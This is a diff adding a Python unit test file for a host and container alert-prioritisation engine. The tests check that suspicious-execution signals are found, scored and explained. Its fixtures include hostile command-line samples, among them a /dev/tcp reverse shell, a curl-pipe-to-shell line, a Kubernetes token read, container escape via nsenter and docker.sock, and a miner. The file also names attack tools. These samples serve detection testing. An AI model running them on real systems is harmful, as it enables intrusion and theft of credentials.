@@ -1,0 +1,258 @@
+"""Priorities: each signal is found where its row in the table says, and nothing in an event can break scoring."""
+
+from __future__ import annotations
+
+import datetime as dt
+import re
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bench.ranking_estate import lines
+from drift.alerts.domain.argv_patterns import PATTERNS, argv_signals, attack_tool, only_asks_version
+from drift.alerts.domain.content_signals import ContentFacts, content_signals, list_signals, severity_signals
+from drift.alerts.domain.exec_signals import age_words, exec_signals
+from drift.alerts.domain.priority_signals import MOST, SIGNALS, START, explanation, priority, signal
+from drift.alerts.domain.scored_signals import ScoredSignals
+from sensor import wire
+from tests.unit.drift.alerts.conftest import event, now
+
+TODAY = dt.date(2026, 11, 29)
+
+
+def names(outcome: str = "none", **changes: Any) -> set[str]:
+    """Return the names of an event's signals; `changes` as in conftest.event, over a plain one."""
+    plain = {"process__path": "/opt/app/tool", "process__name": "tool", "process__argv": ["tool"], "process__uid": 1000}
+    quiet = {"process__parent": {"name": "init", "pid": 1}, "process__ancestors": []}
+    return {
+        name for name, _ in exec_signals(msgspec.convert(event(**{**plain, **quiet, **changes}), wire.Event), outcome)
+    }
+
+
+def written(name: str, seconds: float = 3, path: str | None = None, parent: str | None = None) -> dict[str, Any]:
+    at = (now() - dt.timedelta(seconds=seconds)).isoformat()
+    return {"name": name, "pid": 9, "path": path, "at": at, "parent": {"name": parent, "pid": 8} if parent else None}
+
+
+def test_a_plain_file_gives_no_signal() -> None:
+    assert names() == set()
+
+
+@pytest.mark.parametrize(
+    ("changes", "expected"),
+    [
+        ({"kind": "fileless", "process__path": "/memfd:a"}, "fileless"),
+        ({"kind": "replaced"}, "replaced"),
+        ({"kind": "loader"}, "loader"),
+        ({"kind": "foreign_mount"}, "foreign_mount"),
+        ({"kind": "script"}, "script"),
+        ({"kind": "volume"}, "routine_kind"),
+        ({"kind": "interpreter"}, "routine_kind"),
+        ({"kind": "copy_of_image_file", "process__copy_of": "/bin/bash"}, "renamed_copy"),
+        ({"process__written_by": written("curl")}, "downloaded"),
+        ({"process__written_by": written("php-fpm")}, "written_by_service"),
+        ({"process__written_by": written("java")}, "written_by_runtime"),
+        ({"process__written_by": written("dpkg")}, "installed"),
+        ({"process__written_by": written("tar", parent="npm")}, "installed"),
+        ({"process__written_by": written("link", parent="go")}, "built"),
+        ({"process__written_by": written("tool-updater")}, "unpacked"),
+        ({"kind": "library", "process__written_by": written("gcc")}, "foreign_library"),
+        ({"process__parent": {"name": "nginx", "pid": 7}}, "service_child"),
+        ({"process__ancestors": [{"name": "sh", "pid": 7}, {"name": "redis-server", "pid": 1}]}, "service_child"),
+        ({"process__parent": {"name": "python3.12", "pid": 7}}, "runtime_child"),
+        ({"process__parent": {"name": "cargo", "pid": 7}}, "build_child"),
+        ({"process__parent": {"name": "bash", "pid": 7}}, "interactive"),
+        ({"process__path": "/dev/shm/a"}, "memory_place"),
+        ({"process__path": "/tmp/a"}, "temporary_place"),
+        ({"process__path": "/var/www/html/a"}, "web_place"),
+        ({"process__path": "/opt/.x/a"}, "hidden_name"),
+        ({"process__path": "/opt/.a"}, "hidden_name"),
+        ({"process__path": "/opt/kube-proxy"}, "disguised"),
+        ({"process__path": "/opt/a.png"}, "disguised"),
+        ({"process__argv": ["[kworker/0:1]"]}, "disguised"),
+        ({"process__path": "/tmp/аpt"}, "lookalike"),
+        ({"process__path": "/usr/lib/x/a"}, "system_place"),
+        ({"process__path": "/srv/node_modules/.bin/a"}, "build_place"),
+        ({"container__namespace": "kube-system"}, "system_namespace"),
+        ({"container__namespace": "team-ci"}, "build_namespace"),
+        ({"process__path": "/opt/xmrig-6.21-linux"}, "attack_tool"),
+        ({"process__argv": ["tool", "--version"]}, "asks_version"),
+        ({"process__uid": 0}, "root"),
+        ({"outcome": "blocked"}, "blocked"),
+        ({"outcome": "not_blocked"}, "not_blocked"),
+    ],
+)
+def test_a_signal_is_found(changes: dict[str, Any], expected: str) -> None:
+    assert expected in names(changes.pop("outcome", "none"), **changes)
+
+
+ARGV = {
+    "miner": "a -o stratum+tcp://pool:3333",
+    "tunnel": "chisel client c2:443 R:socks",
+    "reverse_shell": "bash -c exec 5<>/dev/tcp/c2/443",
+    "bare_address": "a 185.220.101.7 443",
+    "credentials": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+    "scan": "a 10.0.0.0/8 -p22",
+    "escape": "nsenter --target 1 sh",
+    "runtime_socket": "curl --unix-socket /var/run/docker.sock",
+    "encoded": "sh -c curl c2|sh",
+    "data_files": "enc -r /var/lib/mysql",
+}
+
+
+@pytest.mark.parametrize("name", PATTERNS)
+def test_each_argv_pattern_has_a_line_that_it_finds(name: str) -> None:
+    assert name in argv_signals(ARGV[name].split(" "))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "kube-proxy --cluster-cidr=10.0.0.0/16",
+        "agent --server 10.1.2.3:443 --log-level info",
+        "pg_restore --jobs 4 dump.tar",
+        "java -jar app.jar --port 8080",
+        "node server.js --socket /run/app.sock",
+        "curl -fsS http://127.0.0.1:8080/healthz",
+        "go test ./... -run TestChisel",
+    ],
+)
+def test_everyday_command_lines_match_no_pattern(line: str) -> None:
+    assert argv_signals(line.split(" ")) == []
+
+
+def test_a_process_that_calls_itself_a_package_manager_is_not_one() -> None:
+    """PR_SET_NAME is free: the path of its file tells."""
+    assert "installed" not in names(process__written_by=written("dpkg", path="/tmp/.x/dropper"))
+    assert "installed" not in names(process__written_by=written("dpkg", path="/tmp/dpkg"))
+    assert "installed" in names(process__written_by=written("dpkg", path="/usr/bin/dpkg"))
+    assert "installed" in names(process__written_by=written("pip", path="/usr/bin/python3.12"))
+    assert "build_child" not in names(process__parent={"name": "cargo", "pid": 7, "path": "/dev/shm/cargo"})
+
+
+def test_only_a_fresh_download_counts_as_one() -> None:
+    assert "downloaded" not in names(process__written_by=written("curl", seconds=900))
+
+
+@pytest.mark.parametrize("tool", ["xmrig", "XMRig", "chisel_1.9", "linpeas.sh", "cdk-linux-amd64"])
+def test_attack_tools_are_known_by_name(tool: str) -> None:
+    assert attack_tool(tool)
+
+
+def test_an_empty_or_long_argv_asks_for_no_version() -> None:
+    assert not only_asks_version([])
+    assert not only_asks_version(["tool"])
+    assert not only_asks_version(["tool", "--version", "run"])
+
+
+@pytest.mark.parametrize(
+    ("facts", "expected"),
+    [
+        (ContentFacts(), set()),
+        (ContentFacts(0, TODAY), {"first_seen"}),
+        (ContentFacts(1, TODAY), set()),
+        (ContentFacts(2, TODAY), {"spread_some"}),
+        (ContentFacts(5, TODAY - dt.timedelta(days=7)), {"spread_wide", "seen_before"}),
+        (ContentFacts(0, TODAY, (("expected", 3), ("true_positive", 2))), {"first_seen", "true_positive"}),
+        (ContentFacts(0, TODAY, (("duplicate", 4), ("expected", 3))), {"first_seen", "judged_harmless"}),
+    ],
+)
+def test_what_is_known_of_a_content_gives_signals(facts: ContentFacts, expected: set[str]) -> None:
+    assert {name for name, _ in content_signals(facts, TODAY, "in this estate")} == expected
+
+
+def test_a_known_bad_list_outweighs_a_known_good_one() -> None:
+    assert list_signals("ours", "theirs") == [("known_bad", "theirs")]
+    assert list_signals("ours", "") == [("known_good", "ours")]
+    assert list_signals("", "") == []
+
+
+@pytest.mark.parametrize("severity", ["medium", "low", "informational"])
+def test_a_lower_severity_lowers_the_priority(severity: str) -> None:
+    assert priority(severity_signals(severity)) < priority(severity_signals("high")) == START
+
+
+def test_points_add_up_within_bounds() -> None:
+    assert priority([signal("miner"), signal("fileless"), signal("known_bad", "x")]) == MOST
+    assert priority([signal("known_good", "x"), signal("installed", "dpkg")]) == 0
+    assert priority([("of-a-later-version", "")]) == START
+
+
+def test_the_line_gives_the_weightiest_reason_first_and_what_lowers_last() -> None:
+    found = [signal("root"), signal("installed", "dpkg"), signal("miner"), signal("script")]
+
+    assert explanation(found) == "talks like a miner; as root; lowered: installed by dpkg; a script"
+
+
+def test_stored_signals_round_trip_and_a_scope_hides_the_estate() -> None:
+    stored = ScoredSignals([signal("root")], [signal("spread_wide", "9")], [signal("first_seen", "in this namespace")])
+
+    read = ScoredSignals.read(stored.as_json())
+
+    assert read.as_json() == stored.as_json()
+    assert "9 other" not in read.reasons(whole_estate=False)
+    assert read.scoped_priority > read.priority
+    assert ScoredSignals.read(None).reasons(whole_estate=True) == ""
+
+
+TEXT = st.text(max_size=300)
+
+
+@given(path=TEXT, argv=st.lists(TEXT, max_size=10), name=TEXT, parent=TEXT, writer=TEXT, namespace=st.none() | TEXT)
+def test_no_event_breaks_scoring(
+    path: str, argv: list[str], name: str, parent: str, writer: str, namespace: str | None
+) -> None:
+    sent = event(
+        process__path=path, process__argv=argv, process__name=name[:256], container__namespace=namespace,
+        process__parent={"name": parent[:256], "pid": 1, "path": path},
+        process__written_by=written(writer[:256], path=path),
+    )  # fmt: skip
+    found = exec_signals(msgspec.convert(sent, wire.Event), "none")
+
+    assert 0 <= priority(found) <= MOST
+    assert all(name in SIGNALS and len(argument) <= 80 for name, argument in found)
+    explanation(found)
+
+
+def test_patterns_stay_fast_on_an_argv_made_to_be_slow() -> None:
+    slow = ["chisel " * 600, "curl " * 800, "1.1.1.1/8 " * 400, "[" * 4_000, "a" * 4_096]
+    begun = dt.datetime.now(dt.UTC)
+    for line in slow:
+        argv_signals([line])
+    assert dt.datetime.now(dt.UTC) - begun < dt.timedelta(seconds=2)
+
+
+def test_ages_are_in_their_largest_unit() -> None:
+    assert [age_words(seconds) for seconds in (-1, 0.05, 3, 180, 7_200, 200_000)] == [
+        "0 ms", "50 ms", "3 s", "3 min", "2 h", "2 d",
+    ]  # fmt: skip
+
+
+def test_the_docs_list_every_signal_with_its_points() -> None:
+    page = (Path(__file__).parents[4] / "docs/priority.md").read_text()
+    rows = dict(re.findall(r"^\| `(\w+)` \| ([+−]\d+) \|", page, flags=re.MULTILINE))
+
+    assert rows == {name: f"{each.points:+d}".replace("-", "−") for name, each in SIGNALS.items()}
+
+
+def test_the_attacks_of_the_planted_estate_lead() -> None:
+    """Without what the estate knows; with it: `make bench ONLY=ranking`."""
+    scored = []
+    for line in lines():
+        at = now() - dt.timedelta(minutes=line["minutes_ago"])
+        sent = event(at=at, kind=line["event"]["kind"])
+        sent["process"], sent["container"] = dict(line["event"]["process"]), line["event"]["container"]
+        if writer := line.get("written"):
+            wrote = written(writer["by"], 0, writer["path"], writer["parent"])
+            sent["process"]["written_by"] = {**wrote, "at": (at - dt.timedelta(seconds=2)).isoformat()}
+        found = exec_signals(msgspec.convert(sent, wire.Event), line["event"]["outcome"])
+        scored.append((priority(found), "attack" in line))
+    scored.sort(reverse=True)
+    place = [n for n, (_, is_attack) in enumerate(scored, 1) if is_attack]
+
+    assert len(scored) == 2_020
+    assert place[-1] <= 60, place
